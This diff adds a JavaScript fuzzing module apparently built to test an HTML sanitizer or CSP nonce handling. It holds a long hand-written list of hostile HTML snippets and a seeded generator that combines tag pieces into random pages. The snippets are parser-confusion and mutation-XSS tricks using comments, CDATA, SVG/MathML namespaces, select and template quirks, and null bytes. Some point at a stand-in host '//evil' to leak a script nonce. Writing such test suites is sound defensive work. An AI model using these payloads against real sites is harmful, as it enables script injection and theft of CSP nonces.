@@ -1,0 +1,171 @@
+// Hostile pages: a list by hand, and combinations by a seeded generator.
+
+export const LISTED = [
+    '<script>', '<script nonce=SECRET>x</script>', '<SCRIPT NONCE="SECRET">',
+    '<script/nonce=SECRET>', '<script/ x nonce=\'SECRET\'>',
+    '<script\nnonce = SECRET\n>', '<script\r\nnonce\r=\r"SECRET">',
+    '<script\0nonce=SECRET>', '<script\0 nonce=SECRET>', '<scr\0ipt>',
+    '<\u017fcript>', '< script>', '<!script>', '</script nonce=SECRET>',
+    '<script nonce=SECRET', '<script nonce="SECRET', '<script nonce=SECRET/>',
+    '<script nonce="SECRET"src=x>', '<script =nonce=SECRET>',
+    '<script ="nonce"=SECRET>', '<script x=nonce=SECRET>',
+    '<script nonce=a nonce=SECRET>', '<script nonce nonce=SECRET>',
+    '<script nonce=SECRET nonce=SECRET>', '<script NoNcE=SECRET>',
+    '<script nonce="SECRET&#65;">', '<script nonce="&#83;ECRET">',
+    '<script data-x="nonce=SECRET">', "<script x='>' nonce=SECRET>",
+    '<script x=">" nonce=SECRET>', '<script x=> nonce=SECRET>',
+    '<script x="a"nonce="SECRET">', '<div id="<script nonce=SECRET>">',
+    '<div id="<script><script>alert(origin)</script>">',
+    '<a href=//evil/?<script nonce=SECRET>', "<img src='//evil/?<script " +
+    "nonce=SECRET>x</script>'", '<script src=//evil x=<script nonce=SECRET>',
+    '<script src=//evil <script nonce=SECRET>',
+    '<!--<script nonce=SECRET>--><script>', '<!--><script>',
+    '<!---><script>', '<!----><script>', '<!--a--!><script>',
+    '<!--a--!x--><script>', '<!--a--!--><script>', '<!-- <!-- --><script>-->',
+    '<!--<!-><script>--><script>', '<!--a-><script>--><script>',
+    '<!-a><script>', '<!-><script>', '<!-', '<!--', '<!--a-', '<!--a--',
+    '<!--a--!', '<!doctype html><script>', '<!doctype "<script>"><script>',
+    '<!DOCTYPE html PUBLIC ">"><script>', '<?php <script> ?><script>',
+    '<![CDATA[<script>]]><script>', '</ <script>><script>', '</><script>',
+    '<svg><![CDATA[<script>]]><script>', '<svg><![CDATA[a]]]><script>',
+    '<svg><![CDATA[a]>]]><script>', '<svg><![cdata[<script>]]><script>',
+    '<svg><title><![CDATA[<script>]]><script>',
+    '<svg><foreignObject><div><![CDATA[<script>]]><script>',
+    '<title><script></title><script>', '<title><script></titlex></title><a>',
+    '<title></script><script>', '<textarea><script></textarea><script>',
+    '<style><!--</style><script>', '<style></stylea></style ><script>',
+    '<style></style/><script>', '<style></style\0><script></style><link>',
+    '<xmp><script></xmp><script>', '<iframe><script></iframe><script>',
+    '<noembed><script></noembed><script>', '<noscript><script></noscript>' +
+    '<script>', '<noframes><script></noframes><script>',
+    '<plaintext><script></plaintext><script>',
+    '<script><!--<script></script><b>--></script><script>k',
+    '<script><!--<script></script></script><script>',
+    '<script><!--<script></script>--></script><script>',
+    '<script><!--<scriptx></script><script>',
+    '<script><!--<script/></script></script><script>',
+    '<script><!--</script><script>', '<script><!--></script><script>',
+    '<script><!---></script><script>', '<script><!-<script></script><script>',
+    '<script><!--<script><!--</script>--></script><script>',
+    '<script><!--<script>--></script><script>',
+    '<script></scriptx></script><script>', '<script></script x="></script>">' +
+    '<script>', '<script><!--<SCRIPT\t></SCRIPT/></script><script>',
+    '<script><!--</scriptx<script ></script></script><script>',
+    '<svg><script><!--<script></script></svg><script>',
+    '<svg><style><script>7', '<svg><title><script>9', '<svg><script/><script>',
+    '<svg><script nonce=SECRET /><style></svg><script>', '<svg/><style><a>',
+    '<svg><desc><style><script></style><script>',
+    '<svg><foreignObject><style><script></style></foreignObject><style><link>',
+    '<math><mi><style><script></style></mi><style><script>',
+    '<math><mtext><mglyph><style><script>', '<math><mtext><malignmark><style>',
+    '<math><annotation-xml><style><script>', '<math><annotation-xml ' +
+    'encoding=text/html><style><script></style></annotation-xml><style><a>',
+    '<math><annotation-xml encoding=TEXT/HTML><style><script></style>',
+    '<math><annotation-xml encoding="application/xhtml+xml"><style><script>',
+    '<math><annotation-xml encoding=text/htm><style><script>',
+    '<math><annotation-xml encoding="&#116;ext/html"><style><script>',
+    '<math><annotation-xml><svg><style><script>',
+    '<svg><b><style><script>', '<svg><font><style><script>',
+    '<svg><font color=a><style><script>', '<svg><font FACE><style><script>',
+    '<svg></p><style><script>', '<svg></br><style><script>',
+    '<svg><g><g></svg><style><script>', '<div><svg></div><style><script>',
+    '<div><svg><g></div><style><script>', '<span><svg></span><style><script>',
+    '<p><svg></div><style><script>', '<p><b></p><svg></b><style><script>',
+    '<b><svg></b><style><script>', '<i><svg><title></i><style><script>',
+    '<table><tr><td><svg></td><style><script>', '<x><svg></x><style><script>',
+    '<a><svg><a><style><script>', '<nobr><svg><title><nobr></title></svg>' +
+    '<style><script>', '<button><svg><title><button><style><script>',
+    '<select><script nonce=SECRET></script><style><script></select><script>',
+    '<select><xmp><script></select></xmp><script>', '<select><option><div>' +
+    '<span></select><script>', '<select><template><style><script></style>' +
+    '</template></select><script>', '<select><textarea><script></textarea>' +
+    '<script>', '<select><input><style><script></style><script>',
+    '<select><select><style></style><script>', '<select><svg><style><script>',
+    '<table><td><select><tr><style><script></style><script>',
+    '<table><select></table><style></style><script>',
+    '<template><style><script></style><script></template><script>',
+    '<template><tr><td><style></style><script></script></template><link>',
+    '<template><svg><style><script>', '<template><template></template><style>',
+    '<frameset><script>', '<frameset><noframes><script></noframes><script>',
+    '<body><frameset><script>', 'a<frameset><script>', '<p><frameset><script>',
+    '<br><frameset><script>', '<input type=hidden><frameset><script>',
+    '<input type=text><frameset><script>', '<html><frameset></frameset>' +
+    '<script>', '<head></head><frameset></frameset></html><script>',
+    '<script></script><frameset><script>', '<svg></svg><frameset><script>',
+    '<svg>a</svg><frameset><script>', '<div></div> <frameset><link>',
+    '<head><style></style></head><link><body><link></body><link></html><link>',
+    '<link><link/><link nonce=SECRET>', '<html><body></html><script>',
+    '<table><style></style><script></script><link><tr><link><td><link>',
+    '<table><colgroup><style></style><script>', '<table><caption><style>' +
+    '</style><script>', '<col><style></style><script>',
+    '<!doctype html><p><table><svg></p><style><script>',
+    '<p><table><svg></p><style><script>', '<ruby><rt><svg></rt><style><a>',
+    '<ul><li><svg></li><style><script>', '<h1><svg></h2><style><script>',
+    '<form><svg></form><style><script>', '<object><svg></object><style><a>',
+    '<dl><dt><svg></dd><style><script>', '<math><mi><svg></mi><style><a>',
+    '<svg><desc><math></desc><style><script>', '<svg><SVG></svg><style><a>',
+    '<image><style></image></style><script>', '<isindex><script>',
+    '<base><basefont><bgsound><meta><script>', '\ufeff<frameset><script>',
+    '<html \n lang=en><script nonce = "SECRET" ></script ><script>',
+];
+
+const PIECES = [
+    '<script>', '</script>', '<script nonce=SECRET>', '<style>', '</style>',
+    '<style nonce="SECRET">', '<link nonce=\'SECRET\'>', '<link>',
+    '<script/>', '<!--', '-->', '--!>', '--', '<!-', '<!', '<?', '</', '<',
+    '>', '"', "'", '=', '/', ' ', '\n', '\r', '\f', '\0', 'x', 'SECRET',
+    '<title>', '</title>', '<textarea>', '</textarea>', '<xmp>', '</xmp>',
+    '<iframe>', '</iframe>', '<noscript>', '</noscript>', '<noframes>',
+    '</noframes>', '<svg>', '</svg>', '<svg/>', '<math>', '</math>', '<mi>',
+    '</mi>', '<mtext>', '<mglyph>', '<annotation-xml>', '</annotation-xml>',
+    '<annotation-xml encoding=text/html>', '<foreignObject>',
+    '</foreignObject>', '<desc>', '</desc>', '<g>', '</g>', '<g/>',
+    '<![CDATA[', ']]>', ']]', '<div>', '</div>', '<p>', '</p>', '<br>',
+    '</br>', '<b>', '</b>', '<i>', '</i>', '<i x=1>', '<a>', '</a>', '<a b>',
+    '<nobr>', '</nobr>', '<font>', '<font size=1>', '</font>', '<table>',
+    '</table>', '<tr>', '</tr>', '<td>', '</td>', '<th>', '<tbody>',
+    '</tbody>', '<thead>', '<caption>', '</caption>', '<colgroup>',
+    '</colgroup>', '<col>', '<select>', '</select>', '<option>', '</option>',
+    '<optgroup>', '</optgroup>', '<input>', '<input type=hidden>', '<hr>',
+    '<button>', '</button>', '<form>', '</form>', '<li>', '</li>', '<ul>',
+    '</ul>', '<dd>', '<dt>', '</dd>', '<h1>', '</h1>', '<h2>', '</h2>',
+    '<template>', '</template>', '<object>', '</object>', '<ruby>', '<rt>',
+    '<rp>', '</ruby>', '<html>', '</html>', '<head>', '</head>', '<body>',
+    '</body>', '<frameset>', '</frameset>', '<!doctype html>', '<!doctype>',
+    '<unknown>', '</unknown>', '<span>', '</span>', '<pre>', '<address>',
+    '<div a="', "<div a='", '<div a=', '<script nonce="', '<center>',
+    '</center>', '<u>', '</u>', '<code>', '</code>', '<image>', '<area>',
+    '<embed>', '<param>', '<meta>', '<base>', '<small>', '</small>',
+];
+
+// mulberry32: the same pages in every run
+export function random(seed) {
+    return () => {
+        seed = (seed + 0x6d2b79f5) | 0;
+        let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
+        t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
+        return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+    };
+}
+
+export function generate(count, seed) {
+    const next = random(seed);
+    const pages = [];
+
+    for (let i = 0; i < count; i++) {
+        // few kinds of pieces a page: they meet more often
+        const kinds = Array.from({ length: 3 + next() * 20 },
+            () => PIECES[Math.floor(next() * PIECES.length)]);
+        kinds.push('<script>', '</script>', '<style>', '<svg>', '<title>');
+
+        let page = '';
+        const n = 3 + Math.floor(next() * 60);
+        for (let j = 0; j < n; j++) {
+            page += kinds[Math.floor(next() * kinds.length)];
+        }
+
+        pages.push(page);
+    }
+
+    return pages;
+}
